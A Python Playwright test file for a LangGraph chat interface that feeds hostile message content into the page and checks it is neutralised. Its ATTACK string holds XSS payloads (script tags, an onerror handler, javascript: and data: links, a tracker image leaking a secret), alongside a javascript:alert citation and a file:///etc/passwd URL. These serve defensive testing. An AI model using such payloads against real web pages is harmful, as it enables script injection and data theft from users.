"""Whatever a model, a tool or a graph puts into its messages, the page stays a page."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from langchain_core.messages import AIMessage, ChatMessage, HumanMessage, SystemMessage, ToolMessage
from langgraph.graph import START, MessagesState, StateGraph
from playwright.async_api import expect
from starlette.types import ASGIApp

from assistant_stream_langgraph import create_app
from tests.browser.chat import Chat
from tests.browser.conftest import Open

PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw="

ATTACK = """\
<script>window.hacked = 1</script>
<img src="https://tracker.example/a.png" onerror="window.hacked = 2">
<style>body { display: none }</style>

![look](https://tracker.example/b.png?secret=42)
[run](javascript:window.hacked=3) [data](data:text/html,<script>1</script>) [here](/admin)
[good](https://example.com/page) <https://example.org> [mail](mailto:a@example.com)
"""


async def open_with(
    open_page: Open, served: Callable[[ASGIApp], str], messages: list[Any], **channels: Any
) -> Chat:
    """Open the page on a graph that answers anything with these messages."""
    schema = type(
        "Schema",
        (MessagesState,),
        {"__annotations__": dict.fromkeys(channels, Any)},
    )
    builder = StateGraph(schema)
    builder.add_node("node", lambda state: {"messages": messages, **channels})
    builder.add_edge(START, "node")
    chat = await open_page(served(create_app(builder.compile(), playground=True)))
    await chat.ask("Go")
    return chat


async def test_nothing_in_a_message_runs_or_loads(
    open_page: Open, served: Callable[[ASGIApp], str]
) -> None:
    call = {"name": "<b>search</b>", "args": {"q": ATTACK}, "id": "1"}
    chat = await open_with(
        open_page,
        served,
        [
            AIMessage(
                [
                    {"type": "reasoning", "reasoning": ATTACK},
                    {
                        "type": "text",
                        "text": ATTACK,
                        "annotations": [
                            {"type": "citation", "url": "javascript:alert(1)", "title": "bad"},
                            {"type": "citation", "url": "https://example.com", "title": ATTACK},
                        ],
                    },
                ],
                tool_calls=[call],
            ),
            ToolMessage(ATTACK, tool_call_id="1", artifact=[{"url": "file:///etc/passwd"}]),
        ],
        secret=ATTACK,
    )
    await chat.page.get_by_role("button", name="search").click()
    await (
        chat.page.get_by_role("button", name="Thought")
        .or_(chat.page.get_by_role("button", name="Reasoning"))
        .first.click()
    )

    assert await chat.page.evaluate("window.hacked") is None
    await expect(chat.composer).to_be_visible()
    assert await chat.page.locator("#root :is(script, style, img, iframe, b)").count() == 0
    links = chat.page.locator(".chat a")
    targets = [await link.get_attribute("href") for link in await links.all()]
    assert sorted(target or "" for target in targets) == [
        "https://example.com/",
        "https://example.com/page",
        "https://example.org/",
        "https://tracker.example/b.png?secret=42",
        "mailto:a@example.com",
    ]
    for link in await links.all():
        assert "noopener" in (await link.get_attribute("rel") or "")


async def test_unusual_messages_do_not_break_the_thread(
    open_page: Open, served: Callable[[ASGIApp], str]
) -> None:
    calls = [{"name": "look", "args": {}, "id": "1"}, {"name": "see", "args": {"a": 1}, "id": "2"}]
    chat = await open_with(
        open_page,
        served,
        [
            SystemMessage("Be kind."),
            AIMessage("", tool_calls=calls),
            ToolMessage("seen", tool_call_id="1", name="another name"),
            ToolMessage("boom", tool_call_id="2", name="", status="error"),
            ToolMessage("orphan", tool_call_id="nobody"),
            AIMessage(
                ["a plain string, ", {"type": "mystery"}, {"type": "text", "text": "a block"}],
                additional_kwargs={"reasoning_content": "thought elsewhere"},
            ),
            ChatMessage("from nobody", role="critic"),
            HumanMessage([{"type": "image_url", "image_url": {"url": PIXEL}}]),
            AIMessage("The end."),
        ],
    )

    await expect(chat.answer).to_contain_text("The end.")
    await expect(chat.tool("look").locator(".tool-result-line")).to_have_text("seen")
    await expect(chat.tool("see")).to_have_attribute("data-phase", "failed")
    await expect(chat.page.locator("body")).to_contain_text("a plain string")
    await expect(chat.page.locator(".message-user .image-part")).to_have_count(1)
    await expect(chat.page.locator("body")).not_to_contain_text("Be kind.")
    await expect(chat.page.get_by_role("button", name="Reasoning")).to_have_count(1)
    await chat.reload()
    await expect(chat.answer).to_contain_text("The end.")


async def test_a_deep_and_long_state_stays_readable(
    open_page: Open, served: Callable[[ASGIApp], str]
) -> None:
    deep: Any = "bottom"
    for level in range(40):
        deep = {f"level{level}": deep}
    chat = await open_with(
        open_page,
        served,
        [AIMessage("Done.")],
        deep=deep,
        many=list(range(1000)),
        long="word " * 2000,
        nothing=None,
        none_yet=[],
    )

    await expect(chat.state).to_contain_text("many1000 items", use_inner_text=False)
    assert await chat.state.locator(".json-node").count() < 400
    await chat.state.get_by_role("button", name="900 more").click()
    await expect(chat.state.get_by_role("button", name="800 more")).to_be_visible()
    await expect(chat.state).to_contain_text("9760 more characters")
    assert await chat.state.evaluate("e => e.scrollWidth - e.clientWidth") <= 0
    await chat.shoot("large-state")
